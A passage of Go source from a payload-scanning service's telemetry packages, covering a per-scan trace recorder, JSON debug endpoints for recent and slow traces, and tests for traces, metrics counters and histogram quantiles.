	// The id's low half is a process-local counter (or the client's),
	// so consecutive requests stripe across shards.
	shard := uint64(t.ID[IDLen-1]) | uint64(t.ID[IDLen-2])<<8
	r.shards[shard&r.shardMask].put(t)
	if t.total >= r.threshold {
		r.slowCount.Add(1)
		r.slow.put(t)
	}
}

// Recorded returns the number of traces recorded since start.
func (r *Recorder) Recorded() uint64 { return r.recorded.Load() }

// SlowCount returns the number of traces that crossed the slow
// threshold since start.
func (r *Recorder) SlowCount() uint64 { return r.slowCount.Load() }

// SlowThreshold returns the configured slow-trace floor.
func (r *Recorder) SlowThreshold() time.Duration { return time.Duration(r.threshold) }

// Recent returns up to max of the most recently recorded traces,
// newest first. max <= 0 returns everything resident.
func (r *Recorder) Recent(max int) []*Trace {
	var out []*Trace
	for _, s := range r.shards {
		out = s.collect(out)
	}
	return sortTrim(out, max)
}

// Slow returns up to max of the retained slow traces, newest first.
func (r *Recorder) Slow(max int) []*Trace {
	return sortTrim(r.slow.collect(nil), max)
}

// sortTrim orders traces newest-start-first and truncates to max.
func sortTrim(ts []*Trace, max int) []*Trace {
	sort.Slice(ts, func(i, j int) bool {
		if !ts[i].Start.Equal(ts[j].Start) {
			return ts[i].Start.After(ts[j].Start)
		}
		// Start collisions (coarse clocks, synthetic traces): break the
		// tie by id so the order is deterministic.
		return ts[i].ID.String() > ts[j].ID.String()
	})
	if max > 0 && len(ts) > max {
		ts = ts[:max]
	}
	return ts
}

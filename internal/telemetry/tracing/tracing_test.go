package tracing

import (
	"testing"
	"time"
)

func TestTraceIDRoundTrip(t *testing.T) {
	id := NewID()
	if id.IsZero() {
		t.Fatal("NewID returned the zero id")
	}
	parsed, err := ParseID(id.String())
	if err != nil {
		t.Fatalf("ParseID(%q): %v", id.String(), err)
	}
	if parsed != id {
		t.Fatalf("round trip: got %s, want %s", parsed, id)
	}
	if _, err := ParseID("nope"); err == nil {
		t.Fatal("ParseID accepted a short string")
	}
	if _, err := ParseID("zz000000000000000000000000000000"); err == nil {
		t.Fatal("ParseID accepted non-hex digits")
	}
}

func TestTraceIDsDistinct(t *testing.T) {
	seen := make(map[TraceID]bool)
	for i := 0; i < 1000; i++ {
		id := NewID()
		if seen[id] {
			t.Fatalf("duplicate id %s after %d draws", id, i)
		}
		seen[id] = true
	}
}

func TestNilTraceIsInert(t *testing.T) {
	var tr *Trace
	tr.StageStart(StageDP)
	tr.StageEnd(StageDP)
	tr.SetVerdict(10, 40, false)
	tr.SetCached(true)
	tr.SetError("x")
	tr.SetStageDur(StageCache, time.Millisecond)
	tr.SetTotal(time.Second)
	tr.Finish()
	if tr.StageDur(StageDP) != 0 || tr.Total() != 0 {
		t.Fatal("nil trace reported nonzero durations")
	}
}

func TestStageTiming(t *testing.T) {
	tr := New(TraceID{}, 4096)
	if tr.ID.IsZero() {
		t.Fatal("New left the id zero")
	}
	tr.StageStart(StageDecode)
	time.Sleep(2 * time.Millisecond)
	tr.StageEnd(StageDecode)
	tr.Finish()
	if d := tr.StageDur(StageDecode); d < time.Millisecond {
		t.Fatalf("decode stage %v, want >= 1ms", d)
	}
	if tr.StageDur(StageDP) != -1 {
		t.Fatalf("unclosed stage should report -1, got %v", tr.StageDur(StageDP))
	}
	if tr.Total() < tr.StageDur(StageDecode) {
		t.Fatalf("total %v below contained stage %v", tr.Total(), tr.StageDur(StageDecode))
	}
}

func TestStageNames(t *testing.T) {
	want := []string{"queue_wait", "cache", "threshold", "decode", "dp"}
	for i, w := range want {
		if got := Stage(i).String(); got != w {
			t.Fatalf("Stage(%d) = %q, want %q", i, got, w)
		}
	}
	if got := Stage(200).String(); got != "unknown" {
		t.Fatalf("out-of-range stage = %q", got)
	}
}

func TestRecorderRecentAndSlow(t *testing.T) {
	rec := NewRecorder(RecorderConfig{Recent: 8, Slow: 4, SlowThreshold: 10 * time.Millisecond, Shards: 1})
	for i := 0; i < 20; i++ {
		tr := New(NewID(), 100)
		tr.SetTotal(time.Duration(i) * time.Millisecond)
		rec.Record(tr)
	}
	if got := rec.Recorded(); got != 20 {
		t.Fatalf("Recorded = %d, want 20", got)
	}
	recent := rec.Recent(0)
	if len(recent) != 8 {
		t.Fatalf("recent ring kept %d, want 8", len(recent))
	}
	// Slow ring: totals 10..19 crossed the threshold, capacity 4 keeps
	// the last four.
	if got := rec.SlowCount(); got != 10 {
		t.Fatalf("SlowCount = %d, want 10", got)
	}
	slow := rec.Slow(0)
	if len(slow) != 4 {
		t.Fatalf("slow ring kept %d, want 4", len(slow))
	}
	for _, tr := range slow {
		if tr.Total() < 10*time.Millisecond {
			t.Fatalf("slow ring retained %v, below threshold", tr.Total())
		}
	}
	if got := rec.Slow(2); len(got) != 2 {
		t.Fatalf("Slow(2) returned %d", len(got))
	}
}

func TestRecorderNilSafe(t *testing.T) {
	var rec *Recorder
	rec.Record(New(NewID(), 1)) // must not panic
	rec = NewRecorder(RecorderConfig{})
	rec.Record(nil) // must not panic
	if rec.Recorded() != 0 {
		t.Fatal("nil trace counted")
	}
}

func TestSortTrimOrdersNewestFirst(t *testing.T) {
	base := time.Unix(1000, 0)
	var ts []*Trace
	for i := 0; i < 5; i++ {
		tr := New(NewID(), 1)
		tr.Start = base.Add(time.Duration(i) * time.Second)
		ts = append(ts, tr)
	}
	out := sortTrim(ts, 3)
	if len(out) != 3 {
		t.Fatalf("trimmed to %d, want 3", len(out))
	}
	for i := 1; i < len(out); i++ {
		if out[i].Start.After(out[i-1].Start) {
			t.Fatal("not sorted newest first")
		}
	}
}

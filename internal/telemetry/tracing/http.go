package tracing

import (
	"encoding/json"
	"net/http"
	"strconv"
)

// StageJSON is one recorded stage in the debug JSON.
type StageJSON struct {
	// Name is the canonical stage name (queue_wait, cache, threshold,
	// decode, dp).
	Name string `json:"name"`
	// DurNs is the stage duration in nanoseconds.
	DurNs int64 `json:"dur_ns"`
}

// TraceJSON is the debug-endpoint shape of one trace. Timestamps are
// unix nanoseconds so the output is locale- and zone-independent.
type TraceJSON struct {
	ID          string  `json:"id"`
	StartUnixNs int64   `json:"start_unix_ns"`
	TotalNs     int64   `json:"total_ns"`
	Bytes       int     `json:"bytes"`
	MEL         int     `json:"mel"`
	Threshold   float64 `json:"threshold"`
	Malicious   bool    `json:"malicious"`
	Cached      bool    `json:"cached"`
	CarryReused int     `json:"carry_reused,omitempty"`
	// Content-pipeline fields; ViewIndex is a pointer so view 0 (the raw
	// payload) still renders while non-pipeline scans omit the field.
	ViewIndex     *int        `json:"view_index,omitempty"`
	DecodeChain   string      `json:"decode_chain,omitempty"`
	TriageScore   float64     `json:"triage_score,omitempty"`
	TriageCleared bool        `json:"triage_cleared,omitempty"`
	Err           string      `json:"error,omitempty"`
	Stages        []StageJSON `json:"stages"`
}

// Snapshot converts a trace to its JSON form. Stages that never
// closed are omitted.
func Snapshot(t *Trace) TraceJSON {
	out := TraceJSON{
		ID:          t.ID.String(),
		StartUnixNs: t.Start.UnixNano(),
		TotalNs:     t.total,
		Bytes:       t.Bytes,
		MEL:         t.MEL,
		Threshold:   t.Threshold,
		Malicious:   t.Malicious,
		Cached:      t.Cached,
		CarryReused: t.RecordsReused,
		Err:         t.Err,
		Stages:      make([]StageJSON, 0, NumStages),
	}
	if t.ViewIndex >= 0 {
		vi := t.ViewIndex
		out.ViewIndex = &vi
		out.DecodeChain = t.DecodeChain
		out.TriageScore = t.TriageScore
		out.TriageCleared = t.TriageCleared
	}
	for s := Stage(0); int(s) < NumStages; s++ {
		if t.stageDur[s] < 0 {
			continue
		}
		out.Stages = append(out.Stages, StageJSON{Name: s.String(), DurNs: t.stageDur[s]})
	}
	return out
}

// Page is the envelope both debug endpoints serve.
type Page struct {
	// Count is the number of traces in this response.
	Count int `json:"count"`
	// Recorded is the total recorded since process start; Slow the
	// total that crossed the slow threshold.
	Recorded uint64 `json:"recorded"`
	Slow     uint64 `json:"slow"`
	// SlowThresholdNs is the retention floor of the slow ring.
	SlowThresholdNs int64       `json:"slow_threshold_ns"`
	Traces          []TraceJSON `json:"traces"`
}

// defaultPageMax bounds one debug response unless ?n= overrides it.
const defaultPageMax = 128

// page renders ts into the JSON envelope.
func (r *Recorder) page(ts []*Trace) Page {
	p := Page{
		Count:           len(ts),
		Recorded:        r.Recorded(),
		Slow:            r.SlowCount(),
		SlowThresholdNs: r.threshold,
		Traces:          make([]TraceJSON, 0, len(ts)),
	}
	for _, t := range ts {
		p.Traces = append(p.Traces, Snapshot(t))
	}
	return p
}

// serve writes one page, honouring the ?n= limit parameter.
func serve(w http.ResponseWriter, req *http.Request, r *Recorder, fetch func(int) []*Trace) {
	max := defaultPageMax
	if s := req.URL.Query().Get("n"); s != "" {
		if v, err := strconv.Atoi(s); err == nil && v > 0 {
			max = v
		}
	}
	w.Header().Set("Content-Type", "application/json")
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	_ = enc.Encode(r.page(fetch(max)))
}

// RecentHandler serves the most recent completed traces — the
// /debug/traces endpoint body.
func RecentHandler(r *Recorder) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		serve(w, req, r, r.Recent)
	})
}

// SlowHandler serves the retained slow/over-threshold traces — the
// /debug/requests endpoint body.
func SlowHandler(r *Recorder) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		serve(w, req, r, r.Slow)
	})
}

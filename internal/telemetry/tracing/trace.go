// Package tracing is the per-scan observability layer of the serving
// stack: one Trace per request, divided into a fixed set of timed
// stages (queue wait, cache lookup, threshold derivation, decode, DP),
// recorded into lock-free rings by a flight Recorder and served as
// JSON from the /debug endpoints. The aggregate counters and latency
// histograms in package telemetry say *that* scans are slow; a trace
// says *where* a particular scan spent its time.
//
// The package is designed for the scan hot path: starting and stopping
// a stage is two monotonic clock reads and two array stores, nil
// receivers disable every operation (an untraced scan pays one branch
// per span), and recording a completed trace is a single atomic
// pointer publish into a sharded ring. Span start/stop carry the
// //mel:hotpath directive, so mellint holds them to the same
// allocation discipline as the engine itself.
package tracing

import (
	"crypto/rand"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"sync/atomic"
	"time"
)

// Stage identifies one timed phase of a scan's lifecycle. The set is
// fixed and ordered the way a request flows through the pipeline.
type Stage uint8

// Pipeline stages.
const (
	// StageQueueWait spans submission to worker pickup in the scan pool.
	StageQueueWait Stage = iota
	// StageCache spans the content-hash computation and verdict-cache
	// lookup.
	StageCache
	// StageThreshold spans model-parameter estimation and τ derivation
	// (the text-only classification rides in this window too).
	StageThreshold
	// StageDecode spans the engine's decode pass: every offset reduced
	// to its successor or path record.
	StageDecode
	// StageDP spans the engine's dynamic program over the records — the
	// pseudo-execution itself.
	StageDP
	// StageTriage spans the content pipeline's entropy/byte-class
	// pre-filter. Appended after the original five so existing wire
	// stage ids stay stable.
	StageTriage
	// StageContentDecode spans the content pipeline's layer peeling
	// (distinct from StageDecode, the engine's instruction decode).
	StageContentDecode
	// NumStages is the number of defined stages.
	NumStages = iota
)

// stageNames are the wire/JSON names, indexed by Stage.
var stageNames = [NumStages]string{
	"queue_wait", "cache", "threshold", "decode", "dp", "triage", "content_decode",
}

// String returns the canonical stage name.
func (s Stage) String() string {
	if int(s) < len(stageNames) {
		return stageNames[s]
	}
	return "unknown"
}

// IDLen is the trace id length in bytes — fixed at 16 so the id fits
// one wire field and renders as 32 hex digits.
const IDLen = 16

// TraceID identifies one trace across process boundaries: the client
// that opened the trace, the daemon that served it, and the flight
// recorder entry all share it.
type TraceID [IDLen]byte

// idHi is a per-process random prefix; idCtr hands out the unique low
// half. Together they make NewID collision-free within a process and
// collision-unlikely across processes without per-call entropy reads.
var (
	idHi  uint64
	idCtr atomic.Uint64
)

func init() {
	var seed [8]byte
	if _, err := rand.Read(seed[:]); err == nil {
		idHi = binary.BigEndian.Uint64(seed[:])
	} else {
		idHi = uint64(time.Now().UnixNano())
	}
}

// NewID returns a fresh trace id: the process prefix plus a counter.
//
//mel:hotpath
func NewID() TraceID {
	var id TraceID
	binary.BigEndian.PutUint64(id[:8], idHi)
	binary.BigEndian.PutUint64(id[8:], idCtr.Add(1))
	return id
}

// IsZero reports the all-zero (absent) id.
func (id TraceID) IsZero() bool { return id == TraceID{} }

// String renders the id as 32 lowercase hex digits.
func (id TraceID) String() string { return hex.EncodeToString(id[:]) }

// ParseID parses the hex form String produces.
func ParseID(s string) (TraceID, error) {
	var id TraceID
	if len(s) != 2*IDLen {
		return id, errors.New("tracing: trace id must be 32 hex digits")
	}
	if _, err := hex.Decode(id[:], []byte(s)); err != nil {
		return id, err
	}
	return id, nil
}

// Trace is the record of one scan request. All stage bookkeeping is
// fixed-size — no slices, no maps — so a Trace is one allocation, and
// a value copy of a completed trace is a consistent snapshot.
//
// A nil *Trace is valid everywhere: every method no-ops, which is how
// untraced scans share the instrumented code path at the cost of one
// nil check per span.
type Trace struct {
	// ID is the cross-process identity of this request.
	ID TraceID
	// Start anchors the trace; stage offsets are monotonic nanoseconds
	// since Start (time.Since reads the monotonic clock).
	Start time.Time
	// Bytes is the scanned payload length.
	Bytes int

	// Verdict summary, filled as the scan resolves.
	MEL       int
	Threshold float64
	Malicious bool
	Cached    bool
	// RecordsReused is the number of packed records the scan carried
	// over from a previous overlapping window instead of re-decoding
	// (zero for standalone scans).
	RecordsReused int
	// ViewIndex is the decoded view the verdict came from when the scan
	// ran through the content pipeline: 0 for the raw payload, i>0 for
	// the i-th decoded view (-1 when the pipeline was not involved).
	ViewIndex int
	// DecodeChain names the layers peeled to reach that view, outermost
	// first ("gzip>base64"), empty for the raw payload.
	DecodeChain string
	// TriageScore is the content pipeline's suspicion score for the raw
	// payload in [0,1] (0 when the pipeline was not involved).
	TriageScore float64
	// TriageCleared marks scans the triage stage cleared without
	// invoking the MEL pass.
	TriageCleared bool
	// Err holds the failure, empty on success.
	Err string

	stageStart [NumStages]int64 // ns offset from Start when the stage opened
	stageDur   [NumStages]int64 // ns, -1 while unset
	total      int64            // ns, set by Finish (or SetTotal)
}

// New opens a trace for a payload of n bytes, anchored now. A zero id
// is replaced with a fresh one.
//
//mel:hotpath
func New(id TraceID, n int) *Trace {
	if id.IsZero() {
		id = NewID()
	}
	t := &Trace{ID: id, Start: time.Now(), Bytes: n, ViewIndex: -1}
	for i := range t.stageDur {
		t.stageDur[i] = -1
	}
	return t
}

// StageStart opens stage s at the current monotonic time.
//
//mel:hotpath
func (t *Trace) StageStart(s Stage) {
	if t == nil {
		return
	}
	t.stageStart[s] = int64(time.Since(t.Start))
}

// StageEnd closes stage s, recording the elapsed monotonic time since
// the matching StageStart.
//
//mel:hotpath
func (t *Trace) StageEnd(s Stage) {
	if t == nil {
		return
	}
	t.stageDur[s] = int64(time.Since(t.Start)) - t.stageStart[s]
}

// StageDur returns the recorded duration of stage s, or -1 if the
// stage never closed (and 0 for a nil trace).
func (t *Trace) StageDur(s Stage) time.Duration {
	if t == nil {
		return 0
	}
	return time.Duration(t.stageDur[s])
}

// SetStageDur overrides a stage duration — the rehydration path for
// traces reconstructed from wire timings on the client side.
func (t *Trace) SetStageDur(s Stage, d time.Duration) {
	if t == nil {
		return
	}
	t.stageStart[s] = 0
	t.stageDur[s] = int64(d)
}

// SetVerdict records the scan outcome on the trace.
//
//mel:hotpath
func (t *Trace) SetVerdict(mel int, threshold float64, malicious bool) {
	if t == nil {
		return
	}
	t.MEL = mel
	t.Threshold = threshold
	t.Malicious = malicious
}

// SetCarry records how many packed records the scan reused from a
// previous overlapping window (the stream scanner's record carry).
//
//mel:hotpath
func (t *Trace) SetCarry(reused int) {
	if t == nil {
		return
	}
	t.RecordsReused = reused
}

// SetContent records the content-pipeline outcome: which decoded view
// the verdict came from, the decode chain that produced it, the triage
// suspicion score, and whether triage cleared the scan outright. Not a
// hot-path call — it runs once per pipeline scan, outside the per-view
// loop, and the chain string is built by the caller.
func (t *Trace) SetContent(viewIndex int, chain string, score float64, cleared bool) {
	if t == nil {
		return
	}
	t.ViewIndex = viewIndex
	t.DecodeChain = chain
	t.TriageScore = score
	t.TriageCleared = cleared
}

// SetCached marks the verdict as served from the content-hash cache.
//
//mel:hotpath
func (t *Trace) SetCached(cached bool) {
	if t == nil {
		return
	}
	t.Cached = cached
}

// SetError records a scan failure.
func (t *Trace) SetError(msg string) {
	if t == nil {
		return
	}
	t.Err = msg
}

// Finish stamps the total duration. A trace must be finished before it
// is handed to a Recorder; after Finish the trace must not be mutated
// (readers hold the published pointer).
//
//mel:hotpath
func (t *Trace) Finish() {
	if t == nil {
		return
	}
	t.total = int64(time.Since(t.Start))
}

// SetTotal overrides the total duration (wire rehydration).
func (t *Trace) SetTotal(d time.Duration) {
	if t == nil {
		return
	}
	t.total = int64(d)
}

// Total returns the finished duration (0 before Finish or for nil).
func (t *Trace) Total() time.Duration {
	if t == nil {
		return 0
	}
	return time.Duration(t.total)
}

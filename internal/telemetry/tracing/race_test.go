package tracing

import (
	"encoding/json"
	"net/http/httptest"
	"sync"
	"testing"
	"time"
)

// TestRecorderHammer publishes traces from many goroutines while
// concurrent readers drain the rings and the debug handlers render
// pages. Run under -race (make test does) this proves the
// publish-by-pointer protocol: a reader either sees a fully finished
// trace or none at all.
func TestRecorderHammer(t *testing.T) {
	rec := NewRecorder(RecorderConfig{Recent: 64, Slow: 16, SlowThreshold: time.Microsecond, Shards: 4})
	const (
		writers   = 8
		perWriter = 500
		readers   = 4
	)
	var wg sync.WaitGroup
	stop := make(chan struct{})

	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < perWriter; i++ {
				tr := New(NewID(), 4096)
				tr.StageStart(StageDecode)
				tr.StageEnd(StageDecode)
				tr.StageStart(StageDP)
				tr.StageEnd(StageDP)
				tr.SetVerdict(21, 40.5, false)
				tr.Finish()
				rec.Record(tr)
			}
		}()
	}

	for r := 0; r < readers; r++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			h := RecentHandler(rec)
			sh := SlowHandler(rec)
			for {
				select {
				case <-stop:
					return
				default:
				}
				for _, tr := range rec.Recent(0) {
					if tr.Total() < 0 {
						t.Error("observed unfinished trace in recent ring")
						return
					}
					_ = Snapshot(tr)
				}
				_ = rec.Slow(0)
				rr := httptest.NewRecorder()
				h.ServeHTTP(rr, httptest.NewRequest("GET", "/debug/traces", nil))
				var p Page
				if err := json.Unmarshal(rr.Body.Bytes(), &p); err != nil {
					t.Errorf("recent page not valid JSON: %v", err)
					return
				}
				rr = httptest.NewRecorder()
				sh.ServeHTTP(rr, httptest.NewRequest("GET", "/debug/requests", nil))
			}
		}()
	}

	// Writers finish on their own; readers loop until stopped. Give the
	// writers a bounded window, then stop readers and join everything.
	deadline := time.After(30 * time.Second)
	writerTotal := uint64(writers * perWriter)
	for rec.Recorded() < writerTotal {
		select {
		case <-deadline:
			t.Fatalf("writers stalled: recorded %d of %d", rec.Recorded(), writerTotal)
		case <-time.After(time.Millisecond):
		}
	}
	close(stop)
	wg.Wait()

	if got := rec.Recorded(); got != writerTotal {
		t.Fatalf("Recorded = %d, want %d", got, writerTotal)
	}
	// Every trace had total >= 0ns and threshold is 1µs; totals are real
	// clock reads so some may be under a microsecond, but the slow ring
	// must hold only above-threshold traces.
	for _, tr := range rec.Slow(0) {
		if tr.Total() < time.Microsecond {
			t.Fatalf("slow ring retained %v, below threshold", tr.Total())
		}
	}
}

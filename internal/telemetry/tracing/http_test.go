package tracing

import (
	"encoding/json"
	"flag"
	"net/http/httptest"
	"os"
	"path/filepath"
	"testing"
	"time"
)

var updateGolden = flag.Bool("update", false, "rewrite golden files")

// goldenTrace builds a fully deterministic trace: fixed id, fixed
// start, stage durations installed via the rehydration setters instead
// of the clock.
func goldenTrace(idByte byte, startSec int64, stages map[Stage]time.Duration, total time.Duration) *Trace {
	var id TraceID
	for i := range id {
		id[i] = idByte
	}
	tr := New(id, 4096)
	tr.Start = time.Unix(startSec, 0).UTC()
	for s, d := range stages {
		tr.SetStageDur(s, d)
	}
	tr.SetTotal(total)
	return tr
}

func TestDebugTracesGolden(t *testing.T) {
	rec := NewRecorder(RecorderConfig{Recent: 8, Slow: 4, SlowThreshold: 25 * time.Millisecond, Shards: 1})

	fast := goldenTrace(0x11, 1700000001, map[Stage]time.Duration{
		StageQueueWait: 1500 * time.Nanosecond,
		StageCache:     800 * time.Nanosecond,
		StageThreshold: 400 * time.Nanosecond,
		StageDecode:    52 * time.Microsecond,
		StageDP:        31 * time.Microsecond,
	}, 90*time.Microsecond)
	fast.SetVerdict(21, 40, false)

	hit := goldenTrace(0x22, 1700000002, map[Stage]time.Duration{
		StageQueueWait: 900 * time.Nanosecond,
		StageCache:     1200 * time.Nanosecond,
	}, 4*time.Microsecond)
	hit.SetVerdict(154, 40, true)
	hit.SetCached(true)

	slow := goldenTrace(0x33, 1700000003, map[Stage]time.Duration{
		StageQueueWait: 24 * time.Millisecond,
		StageCache:     2 * time.Microsecond,
		StageThreshold: 1 * time.Microsecond,
		StageDecode:    3 * time.Millisecond,
		StageDP:        2 * time.Millisecond,
	}, 29*time.Millisecond)
	slow.SetVerdict(130, 40, true)

	failed := goldenTrace(0x44, 1700000004, map[Stage]time.Duration{
		StageQueueWait: 2 * time.Microsecond,
	}, 3*time.Microsecond)
	failed.SetError("deadline exceeded")

	for _, tr := range []*Trace{fast, hit, slow, failed} {
		rec.Record(tr)
	}

	rr := httptest.NewRecorder()
	RecentHandler(rec).ServeHTTP(rr, httptest.NewRequest("GET", "/debug/traces", nil))
	if ct := rr.Header().Get("Content-Type"); ct != "application/json" {
		t.Fatalf("Content-Type = %q", ct)
	}
	got := rr.Body.Bytes()

	golden := filepath.Join("testdata", "debug_traces.golden.json")
	if *updateGolden {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(golden, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("read golden (run with -update to regenerate): %v", err)
	}
	if string(got) != string(want) {
		t.Fatalf("/debug/traces drifted from golden.\ngot:\n%s\nwant:\n%s", got, want)
	}
}

func TestDebugTracesLimitParam(t *testing.T) {
	rec := NewRecorder(RecorderConfig{Recent: 16, Shards: 1})
	for i := 0; i < 10; i++ {
		tr := New(NewID(), 1)
		tr.Start = time.Unix(int64(2000+i), 0)
		tr.SetTotal(time.Microsecond)
		rec.Record(tr)
	}
	rr := httptest.NewRecorder()
	RecentHandler(rec).ServeHTTP(rr, httptest.NewRequest("GET", "/debug/traces?n=3", nil))
	var p struct {
		Count  int `json:"count"`
		Traces []struct {
			StartUnixNs int64 `json:"start_unix_ns"`
		} `json:"traces"`
	}
	if err := json.Unmarshal(rr.Body.Bytes(), &p); err != nil {
		t.Fatal(err)
	}
	if p.Count != 3 || len(p.Traces) != 3 {
		t.Fatalf("n=3 returned count=%d len=%d", p.Count, len(p.Traces))
	}
	// Newest first: starts 2009, 2008, 2007.
	if p.Traces[0].StartUnixNs != time.Unix(2009, 0).UnixNano() {
		t.Fatalf("first trace start = %d, want newest", p.Traces[0].StartUnixNs)
	}
}

package telemetry

import (
	"math"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
)

func TestCounterGaugeBasics(t *testing.T) {
	var c Counter
	c.Inc()
	c.Add(9)
	if got := c.Value(); got != 10 {
		t.Fatalf("counter = %d, want 10", got)
	}
	var g Gauge
	g.Set(5)
	g.Add(-2)
	g.Inc()
	g.Dec()
	if got := g.Value(); got != 3 {
		t.Fatalf("gauge = %d, want 3", got)
	}
}

func TestHistogramBucketsAndQuantile(t *testing.T) {
	h := NewHistogram([]float64{1, 2, 4})
	for _, v := range []float64{0.5, 0.5, 1.5, 3, 100} {
		h.Observe(v)
	}
	s := h.Snapshot()
	wantCounts := []uint64{2, 1, 1, 1}
	for i, w := range wantCounts {
		if s.Counts[i] != w {
			t.Fatalf("bucket %d = %d, want %d (counts %v)", i, s.Counts[i], w, s.Counts)
		}
	}
	if s.Count != 5 {
		t.Fatalf("count = %d, want 5", s.Count)
	}
	if math.Abs(s.Sum-105.5) > 1e-9 {
		t.Fatalf("sum = %v, want 105.5", s.Sum)
	}
	// Median falls in the first bucket (2 of 5 at rank 2.5 → interpolated
	// inside (1,2]).
	q50 := s.Quantile(0.5)
	if q50 < 1 || q50 > 2 {
		t.Fatalf("q50 = %v, want within (1,2]", q50)
	}
	// The +Inf observation pins high quantiles to the last finite bound.
	if q := s.Quantile(0.999); q != 4 {
		t.Fatalf("q999 = %v, want 4 (last finite bound)", q)
	}
	if mean := s.Mean(); math.Abs(mean-21.1) > 1e-9 {
		t.Fatalf("mean = %v, want 21.1", mean)
	}
}

func TestHistogramEmptyQuantile(t *testing.T) {
	h := NewHistogram(nil)
	if q := h.Quantile(0.99); q != 0 {
		t.Fatalf("empty q99 = %v, want 0", q)
	}
}

func TestRegistryIdempotentAndSnapshot(t *testing.T) {
	r := NewRegistry()
	c1 := r.Counter("scans_total", "scans served")
	c2 := r.Counter("scans_total", "ignored duplicate help")
	if c1 != c2 {
		t.Fatal("same name should return the same counter")
	}
	c1.Add(7)
	r.Gauge("queue_depth", "jobs waiting").Set(3)
	r.Histogram("lat", "latency", []float64{1, 2}).Observe(1.5)

	if v, ok := r.Value("scans_total"); !ok || v != 7 {
		t.Fatalf("Value(scans_total) = %v,%v", v, ok)
	}
	snaps := r.Snapshot()
	if len(snaps) != 3 {
		t.Fatalf("snapshot has %d entries, want 3", len(snaps))
	}
	if snaps[0].Name != "scans_total" || snaps[0].Value != 7 {
		t.Fatalf("first snapshot = %+v", snaps[0])
	}
	if snaps[2].Hist == nil || snaps[2].Hist.Count != 1 {
		t.Fatalf("histogram snapshot = %+v", snaps[2])
	}
}

func TestRegistryKindMismatchPanics(t *testing.T) {
	r := NewRegistry()
	r.Counter("x", "")
	defer func() {
		if recover() == nil {
			t.Fatal("kind mismatch should panic")
		}
	}()
	r.Gauge("x", "")
}

func TestConcurrentObservations(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("n", "")
	h := r.Histogram("h", "", []float64{0.5, 1})
	var wg sync.WaitGroup
	const workers, per = 16, 1000
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < per; i++ {
				c.Inc()
				h.Observe(float64(w%2) * 0.75)
			}
		}(w)
	}
	wg.Wait()
	if c.Value() != workers*per {
		t.Fatalf("counter = %d, want %d", c.Value(), workers*per)
	}
	if h.Count() != workers*per {
		t.Fatalf("histogram count = %d, want %d", h.Count(), workers*per)
	}
	if got, want := h.Sum(), float64(workers/2*per)*0.75; math.Abs(got-want) > 1e-6 {
		t.Fatalf("histogram sum = %v, want %v", got, want)
	}
}

func TestHTTPEndpoints(t *testing.T) {
	r := NewRegistry()
	r.Counter("scans_total", "scans served").Add(3)
	r.Histogram("scan_latency_seconds", "scan latency", []float64{0.001, 0.01}).Observe(0.005)
	srv := httptest.NewServer(DebugMux(r))
	defer srv.Close()

	resp, err := srv.Client().Get(srv.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var sb strings.Builder
	if err := r.WriteText(&sb); err != nil {
		t.Fatal(err)
	}
	body := sb.String()
	for _, want := range []string{
		"scans_total 3",
		`scan_latency_seconds_bucket{le="0.01"} 1`,
		`scan_latency_seconds_bucket{le="+Inf"} 1`,
		"scan_latency_seconds_count 1",
	} {
		if !strings.Contains(body, want) {
			t.Fatalf("exposition missing %q:\n%s", want, body)
		}
	}

	pp, err := srv.Client().Get(srv.URL + "/debug/pprof/cmdline")
	if err != nil {
		t.Fatal(err)
	}
	pp.Body.Close()
	if pp.StatusCode != 200 {
		t.Fatalf("pprof cmdline status = %d", pp.StatusCode)
	}
}

func TestHistogramAllInOneBucketQuantiles(t *testing.T) {
	// Every observation lands in the (2,4] bucket: all quantiles must
	// interpolate inside that bucket and never escape its edges.
	h := NewHistogram([]float64{1, 2, 4, 8})
	for i := 0; i < 10; i++ {
		h.Observe(3)
	}
	s := h.Snapshot()
	for _, q := range []float64{0.01, 0.25, 0.5, 0.9, 0.99, 1} {
		got := s.Quantile(q)
		if got <= 2 || got > 4 {
			t.Fatalf("q%v = %v, want within (2,4]", q, got)
		}
	}
	// q=1 exhausts the bucket: the estimate is its upper bound.
	if got := s.Quantile(1); got != 4 {
		t.Fatalf("q1 = %v, want 4", got)
	}
}

func TestHistogramOverflowBucketQuantiles(t *testing.T) {
	// Every observation overflows the largest bound. The estimator has
	// no finite upper edge to interpolate against, so every quantile
	// reports the largest finite bound — a conservative floor, never 0
	// and never an invented value beyond the configured range.
	h := NewHistogram([]float64{1, 2})
	for i := 0; i < 5; i++ {
		h.Observe(1e9)
	}
	s := h.Snapshot()
	for _, q := range []float64{0.1, 0.5, 0.99, 1} {
		if got := s.Quantile(q); got != 2 {
			t.Fatalf("q%v = %v, want 2 (largest finite bound)", q, got)
		}
	}
}

func TestHistogramQuantileOutOfRange(t *testing.T) {
	h := NewHistogram([]float64{1})
	h.Observe(0.5)
	for _, q := range []float64{-1, 0, 1.01} {
		if got := h.Quantile(q); got != 0 {
			t.Fatalf("q%v = %v, want 0 for out-of-range q", q, got)
		}
	}
}

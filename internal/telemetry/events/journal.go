package events

import (
	"runtime"
	"sort"
	"sync/atomic"
	"time"

	"repro/internal/telemetry"
)

// Journal defaults.
const (
	// DefaultCapacity is the total journal slot count across shards.
	DefaultCapacity = 2048
	// DefaultSampleEvery keeps one in this many benign fast-path
	// events; interesting events (slow, error, shed, malicious) bypass
	// sampling entirely.
	DefaultSampleEvery = 8
	// DefaultSlowThreshold is the latency at or above which an event
	// always journals, matching the flight recorder's default slow
	// floor.
	DefaultSlowThreshold = 25 * time.Millisecond
)

// Config sizes a Journal. Zero values take the defaults.
